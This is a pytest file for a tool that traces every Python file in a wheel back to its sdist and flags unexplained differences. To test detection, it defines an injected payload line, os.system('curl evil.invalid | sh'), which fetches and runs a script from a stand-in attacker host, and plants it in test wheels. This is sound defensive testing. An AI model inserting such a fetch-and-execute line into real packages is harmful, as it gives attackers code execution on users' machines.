"""Wheel vs sdist: every Python file of the wheel traced to the sdist, or explained, or flagged."""

from __future__ import annotations

from pathlib import Path

from rebuild.archive import extract_sdist
from rebuild.models import DivergenceKind, Layer
from rebuild.sources.tree import SourceTree
from rebuild.sources.wheel_sdist import source_path, trace_wheel

from .repos import SCM_VERSION_FILE, SOURCE, demo_wheel, make_sdist

INJECTED = b"import os\nos.system('curl evil.invalid | sh')\n"


def sdist_tree(tmp_path: Path, files: dict[str, bytes] = SOURCE) -> SourceTree:
    archive = make_sdist(tmp_path / "demo-1.0.tar.gz", files)
    return SourceTree(extract_sdist(archive, tmp_path / "x"))


def test_every_python_file_of_a_src_layout_wheel_is_traced(tmp_path: Path) -> None:
    trace = trace_wheel(demo_wheel(tmp_path / "w.whl"), sdist_tree(tmp_path), "1.0")
    assert (trace.python_files, trace.traced, trace.findings) == (2, 2, ())


def test_an_injected_file_and_a_changed_file_are_unexplained(tmp_path: Path) -> None:
    wheel = demo_wheel(
        tmp_path / "w.whl",
        changes={"demo/_hook.py": INJECTED, "demo/core.py": b"def answer():\n    return 41\n"},
    )
    trace = trace_wheel(wheel, sdist_tree(tmp_path), "1.0")
    assert trace.traced == 1
    found = {d.member: d for d in trace.findings}
    assert found["demo/_hook.py"].kind is DivergenceKind.NOT_IN_SDIST
    assert found["demo/core.py"].kind is DivergenceKind.DIFFERS_FROM_SDIST
    assert "sdist's src/demo/core.py" in found["demo/core.py"].summary
    assert "+    return 41" in found["demo/core.py"].detail
    assert "os.system" in found["demo/_hook.py"].detail
    assert all(not d.explained and d.layer is Layer.SOURCE for d in trace.findings)


def test_a_generated_version_file_is_explained_only_when_it_is_literals(tmp_path: Path) -> None:
    tree = sdist_tree(tmp_path)
    clean = demo_wheel(tmp_path / "a.whl", changes={"demo/_version.py": SCM_VERSION_FILE})
    (finding,) = trace_wheel(clean, tree, "1.0").findings
    assert finding.explained and "scm-version-file" in (finding.explanation or "")
    # Another version than the release's, or code that runs on import: not what scm writes.
    assert not trace_wheel(clean, tree, "2.0").findings[0].explained
    hostile = demo_wheel(
        tmp_path / "b.whl", changes={"demo/_version.py": SCM_VERSION_FILE + INJECTED}
    )
    assert not trace_wheel(hostile, tree, "1.0").findings[0].explained


def test_versioneer_short_version_file_is_explained(tmp_path: Path) -> None:
    short = (
        b"import json\n\nversion_json = '''\n{\"version\": \"1.0\"}\n'''\n\n\n"
        b"def get_versions():\n    return json.loads(version_json)\n"
    )
    files = {**SOURCE, "src/demo/_version.py": b"# the long versioneer file\n"}
    wheel = demo_wheel(tmp_path / "w.whl", changes={"demo/_version.py": short})
    (finding,) = trace_wheel(wheel, sdist_tree(tmp_path, files), "1.0").findings
    assert finding.kind is DivergenceKind.DIFFERS_FROM_SDIST and finding.explained


def test_data_scheme_paths_and_package_dir_mappings_are_traced(tmp_path: Path) -> None:
    files = {
        **SOURCE,
        "lib/other/helpers.py": b"X = 1\n",
        "bin/tool.py": b"#!/usr/bin/env python\nprint(1)\n",
    }
    wheel = demo_wheel(
        tmp_path / "w.whl",
        changes={
            # package_dir={"extra": "lib/other"}
            "demo-1.0.data/purelib/extra/helpers.py": b"X = 1\n",
            "demo-1.0.data/scripts/tool.py": b"#!python\nprint(1)\n",  # shebang rewritten
        },
    )
    trace = trace_wheel(wheel, sdist_tree(tmp_path, files), "1.0")
    assert trace.traced == 3
    (script,) = trace.findings
    assert script.member == "demo-1.0.data/scripts/tool.py" and script.explained
    assert source_path("demo-1.0.data/platlib/demo/x.py") == "demo/x.py"


def test_a_flat_layout_copy_is_preferred_over_a_test_fixture(tmp_path: Path) -> None:
    files = {**SOURCE, "tests/data/demo/core.py": b"def answer():\n    return 0\n"}
    tree = sdist_tree(tmp_path, files)
    assert tree.candidates("demo/core.py") == ["src/demo/core.py", "tests/data/demo/core.py"]
